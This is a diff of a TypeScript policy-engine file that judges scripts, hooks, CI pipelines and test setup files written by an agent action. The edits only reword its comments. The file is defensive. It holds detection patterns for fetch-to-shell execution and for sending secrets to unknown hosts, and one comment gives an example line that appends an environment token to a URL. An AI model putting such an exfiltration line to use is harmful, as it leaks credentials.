@@ -1,5 +1,5 @@
-// Scripts, build files and tests that an action writes: what they would do once they run is judged now, because writing is the last
-// moment at which anybody sees them. Source: ENGINE 4.2 (contentRef), 11.
+// Scripts, build files and tests that an action writes are judged by what they would do once they run: writing is the
+// last moment at which a reviewer sees them. Source: ENGINE 4.2 (contentRef), 11.
 import { one_of, within } from '#core/compose.ts'
 import { emit } from '#core/policy/effects/call.ts'
 import { type Collector, type FileScript, note_would } from '#core/policy/effects/collector.ts'
@@ -15,15 +15,17 @@ import { has_say } from '#core/policy/weigh.ts'
 
 type EffectsOf = (script: FileScript) => readonly Effect[]
 
-/** What nobody may let a script do unseen, though a person may allow it once on the command line. */
+/** The rule that no script may break unseen, although a person may allow it once on the command line. */
 const UNSEEN = 'core.exec/fetch-to-shell'
 
-/** Effects of written scripts that one action pays for; recipes that do the least are the first to go unseen. */
+/**
+ * Effects of written scripts that one action may cost; when they run out, the recipes that do the least are skipped.
+ */
 const MAX_SCRIPT_EFFECTS = 192
-/** The same of an action that is a question anyway, and the longest script that is read for it. */
+/** The same for an action that is a question anyway, and the longest script that is still read for it. */
 const MAX_SCRIPT_EFFECTS_OVER_BUDGET = 48
 const MAX_SCRIPT_CHARS_OVER_BUDGET = 2048
-/** What a script is charged even when it does nothing: reading it is not free. */
+/** Cost of a script without effects: reading it is not free. */
 const LEAST_CHARGE = 2
 const GRAVE = one_of(
   within(
@@ -37,7 +39,7 @@ const GRAVE = one_of(
   /\/dev\//,
 )
 
-/** Judges what is written, the graver pieces first. */
+/** Judges the scripts that an action writes, the graver ones first. */
 export function judge_scripts(out: Collector, frame: Frame, rules: RuleSet, effects_of: EffectsOf): void {
   const over_budget = out.exhausted
   let left = over_budget ? MAX_SCRIPT_EFFECTS_OVER_BUDGET : MAX_SCRIPT_EFFECTS
@@ -47,7 +49,7 @@ export function judge_scripts(out: Collector, frame: Frame, rules: RuleSet, effe
       if (left <= 0) return
       if (over_budget && script.code.length > MAX_SCRIPT_CHARS_OVER_BUDGET) continue
       if (GRAVE.test(script.code) !== grave) continue
-      // A line that writes the same text into the same file again says nothing new.
+      // Writing the same text into the same file twice adds nothing.
       const { path, lang, names, code } = script
       const same = `${path}\0${lang}\0${names?.join('\0')}\0${script.part}\0${script.whole}\0${code}`
       if (seen.has(same)) continue
@@ -57,18 +59,18 @@ export function judge_scripts(out: Collector, frame: Frame, rules: RuleSet, effe
   }
 }
 
-/** What every run of the tests loads, whatever they are about. */
+/** Files that every run of the tests loads, whichever test is meant. */
 const RUNS_WITH_TESTS =
   /(?:^|\/)(?:conftest\.py|(?:jest|vitest|mocha|cypress)\.(?:setup|config)\.[cm]?[jt]s|global-?setup\.[cm]?[jt]s)$/i
 
 /**
- * A script that would be blocked when run is a question when it is written; what it may do besides is its own affair until somebody
- * runs it, so it is noted for that step.
+ * Judges one script. What would be blocked when run becomes a question now; lesser findings are noted for the step that
+ * runs the file.
  */
 function judge_script(script: FileScript, frame: Frame, out: Collector, rules: RuleSet, effects_of: EffectsOf): number {
   const { code, path, names, part, whole } = script
   const effects = effects_of(script)
-  // What came from the network is known only where it came; it may also come after this.
+  // Where a file came from is only known when it is run, and it may be downloaded after this.
   if (names !== null || may_start(base_of(path)))
     for (const file of files_run(effects)) note_would(out, path, { rule_id: UNSEEN, names, file })
   const matches = match_rules(rules, effects, { effects, budget: { tests: 0 } }).filter(has_say)
@@ -94,7 +96,7 @@ function judge_script(script: FileScript, frame: Frame, out: Collector, rules: R
   return effects.length
 }
 
-/** Files that one recipe runs; more are not remembered. */
+/** Files remembered as run by one recipe. */
 const MAX_RUN = 2
 
 function files_run(effects: readonly Effect[]): string[] {
@@ -107,11 +109,14 @@ function files_run(effects: readonly Effect[]): string[] {
   return files
 }
 
-/** Rules about what a test or a build would do to the world outside; what else it does is part of testing. */
+/** Rules about the world outside a test or build; everything else it does is part of testing. */
 const OUTSIDE = /^core\.(?:fs|exec|net|secrets|persist|self|priv|proc|dev)\//
 const LOST = /^core\.fs\//
 
-/** The rule that a person would be asked for if this ran; only what is written out counts. Recipes that are asked for by name count in full. */
+/**
+ * The rule that would stop this script when it runs; only literal effects count. Recipes that are called by name count
+ * in full.
+ */
 function when_run(matches: readonly Match[], path: string, names: readonly string[] | null): string | null {
   const matter = names !== null ? /./ : TEST_PLACE.test(path) ? LOST : OUTSIDE
   const asks = ({ rule: { spec }, effect }: Match) =>
@@ -119,27 +124,29 @@ function when_run(matches: readonly Match[], path: string, names: readonly strin
   return matches.find(asks)?.rule.spec.id ?? null
 }
 
-/** `urlopen('https://host/?d=' + os.environ['TOKEN'])`: what is open about the address is the secret in it. */
+/**
+ * Whether the only unknown part of an address is the secret in it: `urlopen('https://host/?d=' + os.environ['TOKEN'])`.
+ */
 function gives_variable({ kind, cert, taint }: Effect): boolean {
   return kind === 'net.send' && cert === 'partial' && taint.includes('env')
 }
 
-/** Pipelines whose secrets are plain variables of their steps. */
+/** Pipelines in which secrets are ordinary variables of a step. */
 const PIPELINE =
   /\.gitlab-ci|\/\.circleci\/|azure-pipelines|bitbucket-pipelines|\/\.travis\.yml$|\/\.buildkite\/|\/Jenkinsfile$|\/\.github\/(?:workflows|actions)\/|\/(?:Docker|Container)file(?:\.[\w-]+)?$/
 
-/** What git and package managers run beside what they were asked for. */
+/** Hooks: what git and package managers run besides what they were asked for. */
 const HOOK = /\/\.(?:husky|githooks|git\/hooks)\/|\/(?:\.?lefthook|\.pre-commit-config)\.ya?ml$|\/\.envrc$/
 const LIFECYCLE = /^(?:(?:pre|post)?(?:install|pack|publish)|prepare|prepublish\w*)$/
 
-/** Where anybody may put a program, and exchange it later. */
+/** Folders in which anybody may put or replace a program. */
 const ANYBODYS_FOLDER = /^\/(?:(?:private\/)?(?:var\/)?tmp|dev\/shm)\//
 
 function runs_unasked(path: string, names: readonly string[] | null): boolean {
   return HOOK.test(path) || (names?.some((name) => LIFECYCLE.test(name)) ?? false)
 }
 
-/** Files, variables or what another program says, to a host nobody knows. */
+/** Sends files, variables or output of another program to an unknown host. */
 function sends_work_away({ kind, fields }: Effect): boolean {
   return (
     kind === 'net.send' &&
@@ -148,10 +155,10 @@ function sends_work_away({ kind, fields }: Effect): boolean {
   )
 }
 
-/** Hosts that nobody vouches for; who catches or keeps what anybody sends is one of them. */
+/** Kinds of hosts that nobody vouches for, among them services that store or show whatever they receive. */
 const STRANGE_HOST = /^(?:unknown|ip-literal|capture|paste|lookalike|punycode)$/
 
-/** A step of a workflow gives a secret of the repository, as data, to a host nobody knows. */
+/** Sends a secret of the repository as data to an unknown host. */
 function sends_secret_away({ kind, fields }: Effect): boolean {
   return kind === 'net.send' && fields.secret_variable === true && STRANGE_HOST.test(String(fields.host_kind))
 }
